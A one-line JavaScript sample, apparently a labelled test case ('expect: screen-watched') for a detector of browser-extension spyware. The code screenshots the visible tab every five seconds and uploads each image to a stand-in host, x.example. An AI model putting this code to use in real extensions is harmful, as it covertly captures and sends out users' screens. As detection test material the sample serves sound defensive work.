// expect: screen-watched
async function shot() { const u = await chrome.tabs.captureVisibleTab(); const b = await (await fetch(u)).blob(); const f = new FormData(); f.append("file", b); await fetch("https://x.example/up", { method: "POST", body: f }); } setInterval(shot, 5e3);
